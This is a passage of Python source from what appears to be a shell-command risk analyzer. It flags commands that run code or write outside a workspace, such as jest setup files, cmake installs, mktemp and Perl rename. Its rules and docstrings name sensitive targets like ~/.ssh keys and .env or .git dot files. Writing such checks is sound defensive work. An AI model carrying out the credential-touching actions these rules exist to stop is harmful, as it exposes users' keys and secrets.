            continue
        if flag.lstrip("-") not in ("toolexec", "vettool", "exec"):
            continue
        program = attached if eq else args[k + 1].value if k + 1 < len(args) else ""
        if program:
            a.run_script(program + ' "$TOOL"', cmd.cwd, f"go {flag.lstrip('-')}")


# jest's options that take a list: the words after one, up to the next option, are all its
# values (`jest --setupFiles ./a.js /tmp/b.js` loads both), not test path patterns.
_JEST_LISTS = frozenset(
    {"--setupFiles", "--setupFilesAfterEnv", "--reporters", "--roots", "--projects"}
    | {"--modulePaths", "--moduleDirectories", "--watchPlugins"}
)


def _option_lists(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """The later values of a list option (`--setupFiles A B`), judged as its first is: a
    module it loads, or a directory whose code runs."""
    rule = PROGRAMS[name]
    current: str | None = None
    first = True
    for word in args:
        value = word.value
        if value is not None and value.startswith("-"):
            flag, eq, _ = value.partition("=")
            current = flag if flag in _JEST_LISTS else None
            first = not eq  # `--roots=a b`: `b` is a value too
            continue
        if current is None:
            continue
        if first:  # the option's own value, judged by the entry
            first = False
            continue
        if current in rule.script_opts:
            _run_file(f"{name} {current}", word, cmd, a)
        elif word.value is None or a.place(word, cmd.cwd).zone != "workspace":
            a.add(Tier.HIGH, f"{name} {current} takes {_short(word.text)}, outside the workspace")


def _install_prefix(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`cmake --install DIR` installs into the prefix the build was configured with (by
    default /usr/local, or a CMAKE_INSTALL_PREFIX given at configure), as `make install`
    does; with `--prefix DIR` into DIR, judged as written."""
    words = [w.value for w in args]
    if "--install" in words and not any(
        w is not None and (w == "--prefix" or w.startswith("--prefix=")) for w in words
    ):
        a.add(Tier.HIGH, f"{name} --install installs into the configured prefix")


def _build_mode_projects(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`tsc -b [PROJECT...]`: in build mode the operands are projects (a tsconfig.json or its
    directory) that it builds, each writing where it says, as `-p PROJECT` does."""
    if not any(w.value in ("-b", "--build") for w in args):
        return
    for word in split_opts(args, PROGRAMS[name].takes)[1]:
        if word.value is None or a.place(word, cmd.cwd).zone != "workspace":
            a.add(Tier.HIGH, f"{name} --build builds {_short(word.text)}, outside the workspace")


_PROJECT_DIR_LONG = ("--directory", "--project", "--working-dir", "--package-path")


def _project_dir_anywhere(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """A project manager's project directory given after its subcommand (`swift run
    --package-path /tmp/x`, `composer run-script --working-dir=/tmp/x test`): the code there
    runs, so one outside the workspace is asked, as it is before the subcommand."""
    for k, word in enumerate(args):
        flag, eq, attached = (word.value or "").partition("=")
        if flag not in _PROJECT_DIR_LONG:
            continue
        where = Word(attached, word.text) if eq else args[k + 1] if k + 1 < len(args) else None
        if where is None:
            continue
        if where.value is None or a.place(where, cmd.cwd).zone != "workspace":
            a.add(Tier.HIGH, f"{name} works on {_short(where.text)}, outside the workspace")


def _mktemp_dir(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`mktemp -p DIR [TEMPLATE]`: a new file (or directory) with a name no file has yet,
    made inside DIR (`DIR/tmp.XXXXXXXXXX`, or `DIR/TEMPLATE`, which may hold slashes): what
    is written is that new name, not DIR itself (`-p /tmp` makes a file in temporary space,
    `-p ~/.ssh` one among the keys). With `-u` nothing is made."""
    opts, pos = split_opts(args, ("-p", "--tmpdir", "--suffix"))
    dirs = _vals(opts, "-p", "--tmpdir")
    dry = _has(opts, "-u", "--dry-run")
    for place in dirs:
        if dry:
            a.read_meta(place, cmd.cwd)
            continue
        for template in pos or [Word("tmp.XXXXXXXXXX", "tmp.XXXXXXXXXX")]:
            if place.value is None or template.value is None:
                a.write(Word(None, f"{place.text}/{template.text}"), cmd.cwd)
            else:
                path = place.value.rstrip("/") + "/" + template.value
                a.write(Word(path, f"{place.text}/{template.text}"), cmd.cwd)


# The Perl expressions of `rename` (File::Rename) that only change characters of a path: a
# substitution with no code (no `e`/`r` flag, no `@`, `${`, `(?{` or other interpolation, a
# replacement of plain characters and group references with no `/`), or a transliteration
# of letters, digits, `_`, `-` and spaces (`y/A-Z/a-z/`). Anything else is Perl code.
_RENAME_SUBST = re.compile(
    r"s(?P<d>[/#|,:!])(?P<pat>(?:(?!(?P=d))[^@\\$]|\\.|\$(?=(?P=d)))+)(?P=d)"
    r"(?P<rep>(?:[\w .+=~%-]|\\[1-9]|\$[1-9])*)(?P=d)[gimsu]*"
)
_TR_LIST = r"(?:[A-Za-z0-9_ ]|(?<=[A-Za-z0-9])-(?=[A-Za-z0-9]))*"
_RENAME_TRANSLIT = re.compile(rf"(?:y|tr)/{_TR_LIST}/{_TR_LIST}/[cdsr]*")
# A pattern whose every match starts at a dot: `\.` first, neither optional nor one of
# alternatives.
_FROM_A_DOT = re.compile(r"\\\.(?![?*{])[^|]*")


def _rename_keeps_names_plain(code: str) -> bool:
    """No component of a path whose components start with no dot can start with one after
    this expression: a transliteration has no dot, and a substitution either matches from
    a dot (`s/\\.bak$//`, never where a component starts) or puts a replacement that starts
    with no dot where its match started."""
    if _RENAME_TRANSLIT.fullmatch(code):
        return True
    m = _RENAME_SUBST.fullmatch(code)
    if m is None or "(?" in code:
        return False
    rep = m.group("rep")
    if _FROM_A_DOT.fullmatch(m.group("pat")):
        return True
    return bool(rep) and not rep.startswith((".", "\\", "$"))


def _perl_rename(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`rename 's/\\.bak$//' *.bak`, `rename 'y/A-Z/a-z/' *`: the expression is applied to
    each path. With an expression that only changes characters and relative paths with no
    `..` and no dot files, every new path stays below the current directory and no name
    becomes a dot file (`.git`, `.claude`, `.env`): the files named are written where they
    are, as `mv a.bak a` writes (File::Rename keeps a file that already has the new name;
    the older rename of Peder Stray replaces it, as mv does). An expression that is code,
    or only known at run time, runs as Perl; absolute paths, `..`, dot files and options of
    other effects (`-C CMD` runs a command) ask, and so does `-f`, which replaces the files
    that had the new names."""
    if not args:
        return  # prints its usage
    opts, pos = split_opts(args, ("-e", "-E"))
    codes = _vals(opts, "-e", "-E")
    if not codes and pos:
        codes, pos = pos[:1], pos[1:]
    unknown = [f for f, _ in opts if f not in _RENAME_FLAGS]
    if not codes or unknown:
        what = f"the option {unknown[0]}" if unknown else "no expression"
        a.add(Tier.HIGH, f"{name} with {what} is of unknown effect")
        return
    for code in codes:
        if code.value is None or not _rename_keeps_names_plain(code.value):
            a.add(Tier.HIGH, f"{name} runs the Perl code {_short(code.text)} on every name")
            return
    dry = _has(opts, "-n", "--nono", "--no-act", "--just-print")
    force = _has(opts, "-f", "--force")
    if not dry and not pos:
        a.add(Tier.HIGH, f"{name} renames the files named on its standard input")
    for word in pos:
        if dry:
            a.read_meta(word, cmd.cwd)
            continue
        value = word.value
        parts = (value or "/").removeprefix("./").split("/")
        if value is None or value.startswith("/") or any(p.startswith(".") for p in parts):
            a.add(Tier.HIGH, f"{name} gives {_short(word.text)} a name computed from its path")
        a.write(word, cmd.cwd)
    if force and not dry:
        # what is overwritten is whatever has a new name: unknown, ignored data among it
        a.add(Tier.HIGH, f"{name} -f overwrites the files that hold the new names")


_RENAME_FLAGS = frozenset(
    {
        *("-v", "--verbose", "-n", "--nono", "--no-act", "--just-print", "-f", "--force"),
        *("-e", "-E", "-d", "--filename", "--nopath", "--nofullpath"),
    }
)


def _python_module_run(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
    """`coverage run -m MODULE ARGS` runs `python -m MODULE ARGS` under coverage: the
    module's words are judged as python's (`-m pytest --basetemp DIR`)."""
    words = [w.value for w in args]
    if "run" not in words:
        return
    for k in range(words.index("run") + 1, len(args)):
        word = words[k]
        if word == "-m" and k + 1 < len(args):
            a.run_argv([Word("python", "python"), Word("-m", "-m"), *args[k + 1 :]], cmd)
            return
        if word is None or not word.startswith("-") or word == "--":
            return  # a script (the entry judges it) or words only known at run time


CHECKS: Mapping[str, Handler] = MappingProxyType(
    {
        "perl_rename": _perl_rename,
        "mktemp_dir": _mktemp_dir,
        "python_module_run": _python_module_run,
        "project_dir_anywhere": _project_dir_anywhere,
        "option_lists": _option_lists,
        "install_prefix": _install_prefix,
        "build_mode_projects": _build_mode_projects,
        "go_tool_program": _go_tool_program,
        "cpio_names": _cpio_names,
        "minisign_keys": _minisign_keys,
        "mix_do": _mix_do,
        "mlr_prepipe": _mlr_prepipe,
        "plist_buddy": _plist_buddy,
        "r2_commands": _r2_commands,
        "go_module_fetch": _go_module_fetch,
        "ssh_keygen_output": _ssh_keygen_output,
        "stdin_names": _stdin_names,
        "envsubst_scope": _envsubst_scope,
        "clock_operand": _clock_operand,
        "name_lookup": _name_lookup,
        "database_host": database_host,
        "maven_exec": _maven_exec,
        "kubernetes_secrets": _kubernetes_secrets,
        "kubernetes_sources": _kubernetes_sources,
        "rails_tasks": _rails_tasks,
        "sysctl_keys": _sysctl_keys,
        "search_scopes": _search_scopes,
        "pager_commands": _pager_commands,
        "endless_copy": _endless_copy,
        "stdin_sent": _stdin_sent,
        "stdin_upload": _stdin_upload,
        "stdin_commands": _stdin_commands,
        "user_command": _user_command,
        "variable_operands": _variable_operands,
        "written_makefile": _written_makefile,
        "dscl_command": _dscl_command,
        "setting_value": _setting_value,
        "quarantine_change": _quarantine_change,
    }
)


def _validate_checks(name: str, rule: Program, seen: set[int]) -> None:
    """Every check an entry (or an entry of its subcommands) names exists; entries that
    several programs share are looked at once."""
    seen.add(id(rule))
    unknown = [check for check in rule.checks if check not in CHECKS]
    if unknown:
        raise ValueError(f"program rule {name}: unknown check {unknown[0]!r}; see CHECKS")
    for verb, sub in [*rule.subcommands.items(), ("(other)", rule.other_subcommand)]:
        if isinstance(sub, Program) and id(sub) not in seen:
            _validate_checks(f"{name} {verb}", sub, seen)


_seen: set[int] = set()
for _name, _rule in PROGRAMS.items():
    if _rule.checks or _rule.subcommands:
        _validate_checks(_name, _rule, _seen)
del _seen
